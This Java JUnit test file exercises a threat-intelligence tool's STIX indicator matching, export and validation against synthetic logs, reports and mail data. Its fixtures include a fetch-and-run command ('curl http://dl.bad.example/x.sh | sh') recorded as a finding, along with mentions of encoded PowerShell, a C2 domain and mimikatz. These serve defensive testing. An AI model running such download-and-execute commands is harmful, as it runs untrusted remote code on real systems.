package dev.bulwark.intel.indicator;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.bulwark.intel.stix.StixBundleReader;
import dev.bulwark.intel.stix.StixValidator;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Indicators matched against a folder holding the kinds of file Bulwark writes and reads. */
class IndicatorMatchTest {
  @TempDir Path dir;

  private static JsonNode indicator(String name, String pattern) {
    ObjectNode o = StixBundleReader.mapper().createObjectNode();
    o.put("type", "indicator");
    o.put("spec_version", "2.1");
    o.put("id", dev.bulwark.intel.stix.StixIds.of("indicator", name));
    o.put("created", "2026-01-01T00:00:00.000Z");
    o.put("modified", "2026-01-01T00:00:00.000Z");
    o.put("name", name);
    o.put("pattern", pattern);
    o.put("pattern_type", "stix");
    o.put("valid_from", "2026-01-01T00:00:00.000Z");
    return o;
  }

  @Test
  void findsEachKindInLogsReportsMailIndicatorsAndFilesAndNothingElse() throws Exception {
    Path logs = Files.createDirectories(dir.resolve("evidence/zeek"));
    Files.writeString(
        logs.resolve("dns.log"),
        "#fields\tts\tuid\tid.orig_h\tid.resp_h\tquery\n"
            + "1700000000.1\tC1\t10.0.0.5\t10.0.0.53\tupdate.c2-relay.example\n"
            + "1700000001.1\tC2\t10.0.0.5\t10.0.0.53\twww.debian.org\n");
    Files.writeString(
        dir.resolve("evidence/proxy.log"),
        "10.0.0.5 GET http://203.0.113.66/gate.php 200\n10.0.0.6 GET https://example.org/ 200\n");
    Files.writeString(
        dir.resolve("evidence/hunt.json"),
        "{\"tool\":{\"name\":\"bulwark\"},\"findings\":[{\"analyzer\":\"logs\",\"ruleId\":\"r1\","
            + "\"message\":\"powershell -enc from 10.0.0.5 to 192.0.2.44 user=alice\"}]}");
    Files.writeString(
        dir.resolve("evidence/mail-indicators.json"),
        "{\"format\":\"bulwark-mail-indicators-1\",\"messages\":[{\"source\":\"inbox.mbox\","
            + "\"index\":3,\"urls\":[],\"hosts\":[],\"ips\":[],\"emails\":[\"Billing@Pay-Secure.example\"],"
            + "\"files\":[{\"name\":\"a.zip\",\"sha256\":\""
            + "c".repeat(64)
            + "\"}]}]}");
    byte[] sample = "MZ\0\0not really a program".getBytes(StandardCharsets.ISO_8859_1);
    Files.write(dir.resolve("evidence/sample.bin"), sample);
    String sha1 = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-1").digest(sample));

    IndicatorMatcher m = new IndicatorMatcher();
    m.add(indicator("c2 domain", "[domain-name:value = 'update.c2-relay.example']"));
    m.add(
        indicator(
            "gate", "[url:value LIKE '%/gate.php' AND ipv4-addr:value ISSUBSET '203.0.113.0/24']"));
    m.add(indicator("lateral", "[ipv4-addr:value = '192.0.2.44']"));
    m.add(indicator("sender", "[email-message:from_ref.value = 'billing@pay-secure.example']"));
    m.add(indicator("attachment", "[file:hashes.'SHA-256' = '" + "C".repeat(64) + "']"));
    m.add(indicator("sample", "[file:hashes.'SHA-1' = '" + sha1 + "']"));
    m.add(indicator("absent", "[ipv4-addr:value = '198.51.100.250']"));
    m.add(
        indicator(
            "both, in different records",
            "[domain-name:value = 'update.c2-relay.example'] AND [ipv4-addr:value = '192.0.2.44']"));
    m.add(
        indicator(
            "both, one present",
            "[domain-name:value = 'update.c2-relay.example'] AND [ipv4-addr:value = '198.51.100.250']"));
    m.add(
        indicator(
            "same record only",
            "[domain-name:value = 'update.c2-relay.example' AND ipv4-addr:value = '203.0.113.66']"));
    m.add(indicator("unsupported", "[process:name = 'mimikatz.exe']"));
    ObjectNode yara = (ObjectNode) indicator("yara", "rule x { condition: true }");
    yara.put("pattern_type", "yara");
    m.add(yara);

    Records.read(List.of(dir.resolve("evidence")), m::accept, p -> {});
    IndicatorMatcher.Result r = m.result();
    Map<String, IndicatorMatcher.Match> by =
        r.matches().stream()
            .collect(
                Collectors.toMap(x -> x.indicator().path("name").asText(), Function.identity()));
    assertThat(by.keySet())
        .containsExactlyInAnyOrder(
            "c2 domain",
            "gate",
            "lateral",
            "sender",
            "attachment",
            "sample",
            "both, in different records");
    assertThat(by.get("c2 domain").hits().get(0).source()).isEqualTo("zeek/dns.log");
    assertThat(by.get("c2 domain").hits().get(0).locator()).isEqualTo("line 2");
    assertThat(by.get("lateral").hits().get(0).locator()).isEqualTo("finding 0 r1");
    assertThat(by.get("sender").hits().get(0).source()).isEqualTo("inbox.mbox");
    assertThat(by.get("sample").hits().get(0).locator()).isEqualTo("file");
    assertThat(r.refused())
        .extracting(IndicatorMatcher.Refused::name)
        .containsExactly("unsupported", "yara");
    assertThat(r.refused().get(0).reason()).contains("process:name is not supported");
    assertThat(r.indicators()).isEqualTo(12);

    ObjectNode bundle =
        IndicatorBundles.sightings(
            r, "Rhein-Donau Kliniken", Instant.parse("2026-12-06T10:00:00Z"));
    assertThat(StixValidator.validate(bundle)).isEmpty();
    List<String> types = new ArrayList<>();
    bundle.path("objects").forEach(o -> types.add(o.path("type").asText()));
    assertThat(types.stream().filter("sighting"::equals).count()).isEqualTo(7);
    assertThat(types)
        .contains("observed-data", "domain-name", "url", "ipv4-addr", "email-addr", "file");
  }

  @Test
  void exportTakesMailNetAndLogsFindingsLeavesOwnAddressesOutAndValidates() throws Exception {
    Path report = dir.resolve("scan.json");
    Files.writeString(
        report,
        "{\"findings\":["
            + "{\"analyzer\":\"net\",\"ruleId\":\"net-beacon\",\"title\":\"Beaconing\",\"severity\":\"high\","
            + "\"message\":\"10.1.2.3 contacts 203.0.113.9 every 60 s\",\"fingerprint\":\""
            + "a".repeat(32)
            + "\","
            + "\"properties\":{\"net-host\":\"10.1.2.3\",\"net-flow\":\"10.1.2.3:5000 -> 203.0.113.9:443/tcp\"},"
            + "\"locations\":[{\"kind\":\"file\",\"path\":\"dmz/c.pcap\"}]},"
            + "{\"analyzer\":\"logs\",\"ruleId\":\"proc-download\",\"title\":\"Download cradle\",\"severity\":\"medium\","
            + "\"message\":\"curl http://dl.bad.example/x.sh by root on 127.0.0.1\","
            + "\"properties\":{\"commandLine\":\"curl http://dl.bad.example/x.sh | sh\"},"
            + "\"locations\":[{\"kind\":\"log-event\",\"path\":\"auth.log\",\"recordId\":\"7\"}]},"
            + "{\"analyzer\":\"code\",\"ruleId\":\"java-ssrf\",\"title\":\"SSRF\",\"severity\":\"high\","
            + "\"message\":\"http://169.254.169.254/ reachable\",\"locations\":[]}"
            + "]}");
    List<IndicatorBundles.FindingValues> found = ReportValues.read(report);
    ObjectNode bundle =
        IndicatorBundles.export(found, "Acme Bank", Instant.parse("2026-12-06T10:00:00Z"));
    assertThat(StixValidator.validate(bundle)).isEmpty();
    Map<String, String> patterns = new java.util.TreeMap<>();
    for (JsonNode o : bundle.path("objects")) {
      if (o.path("type").asText().equals("indicator")) {
        patterns.put(o.path("pattern").asText(), o.path("indicator_types").get(0).asText());
      }
    }
    assertThat(patterns)
        .containsExactlyInAnyOrderEntriesOf(
            Map.of(
                "[ipv4-addr:value = '203.0.113.9']", "malicious-activity",
                "[url:value = 'http://dl.bad.example/x.sh']", "anomalous-activity",
                "[domain-name:value = 'dl.bad.example']", "anomalous-activity"));
    // each indicator parses with Bulwark's own pattern reader and matches the value it came from
    for (String p : patterns.keySet()) {
      assertThat(StixPattern.parse(p).text()).isEqualTo(p);
    }
  }

  @Test
  void validatorCatchesWhatTheSpecRequires() throws Exception {
    ObjectNode bundle =
        IndicatorBundles.export(
            List.of(
                new IndicatorBundles.FindingValues(
                    "net",
                    "r",
                    "t",
                    "high",
                    "x",
                    java.util.Set.of(new Observable(Observable.Kind.IPV4, "203.0.113.1")))),
            "Org",
            Instant.parse("2026-12-06T10:00:00Z"));
    assertThat(StixValidator.validate(bundle)).isEmpty();
    for (JsonNode o : bundle.path("objects")) {
      String t = o.path("type").asText();
      if (t.equals("indicator")) {
        ((ObjectNode) o).remove("valid_from");
      } else if (t.equals("observed-data")) {
        ((ObjectNode) o).remove("object_refs");
      } else if (t.equals("ipv4-addr")) {
        ((ObjectNode) o).remove("value");
      } else if (t.equals("sighting")) {
        ((ObjectNode) o).put("last_seen", "2020-01-01T00:00:00.000Z");
      }
    }
    assertThat(StixValidator.validate(bundle))
        .anyMatch(e -> e.contains("'valid_from' is missing"))
        .anyMatch(e -> e.contains("'object_refs' is missing"))
        .anyMatch(e -> e.contains("ipv4-addr") && e.contains("'value' is missing"))
        .anyMatch(e -> e.contains("last_seen is earlier than first_seen"));
  }
}
